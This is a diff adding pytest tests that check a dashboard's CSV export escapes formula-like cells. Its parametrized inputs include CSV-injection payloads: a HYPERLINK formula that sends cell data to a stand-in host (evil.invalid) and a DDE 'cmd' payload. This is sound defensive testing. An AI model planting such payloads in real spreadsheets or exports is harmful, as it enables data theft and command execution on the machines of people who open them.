@@ -2,11 +2,15 @@
 
 from __future__ import annotations
 
+import csv
+import io
 from datetime import date
 
+import pandas as pd
 import pytest
 from streamlit.testing.v1 import AppTest
 
+from dashboard.controls import to_csv
 from tests.dashboard.results import FRI, MON, SAT, SUN
 
 
@@ -115,3 +119,23 @@ def test_a_day_that_is_picked_is_written_and_one_that_is_cleared_comes_back():
         test.date_input(key="from").set_value(picked).run()
         assert [element.value for element in test.text] == [f"{expected} to 2026-10-26"]
         assert test.query_params == {"from": expected, "to": "2026-10-26"}
+
+
+# What is saved as CSV
+
+@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil.invalid/"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "＋1", "－1", "＠a"])
+def test_a_text_that_looks_like_a_formula_is_saved_as_text(text):
+    table = pd.DataFrame({text: [text, "plain"], "label": pd.Categorical([text, "x;=1"]), "any": [(text,), -1], "watts": [-1.5, 2]})
+    saved = list(csv.reader(io.StringIO(to_csv(table), newline="")))
+    assert saved == [["'" + text, "label", "any", "watts"], ["'" + text, "'" + text, str((text,)), "-1.5"], ["plain", "x;=1", "-1", "2.0"]]
+    assert '"x;=1"' in to_csv(table)  # quoted, so that no other separator makes a cell of its second half
+
+
+def test_numbers_and_times_are_saved_as_they_are():
+    table = pd.DataFrame({"kwh": [-0.1, None], "n": [1, -2], "at": [pd.Timestamp("2026-10-25 01:30", tz="UTC")] * 2, "open": [True, False]})
+    assert to_csv(table) == ('"kwh","n","at","open"\n-0.1,1,"2026-10-25 01:30:00+00:00",True\n"",-2,"2026-10-25 01:30:00+00:00",False\n')
+
+
+def test_an_answer_without_columns_and_one_with_the_same_name_twice():
+    assert to_csv(pd.DataFrame()) == ""
+    assert to_csv(pd.DataFrame([["=1", 2]], columns=["a", "a"])) == '"a","a"\n"\'=1",2\n'
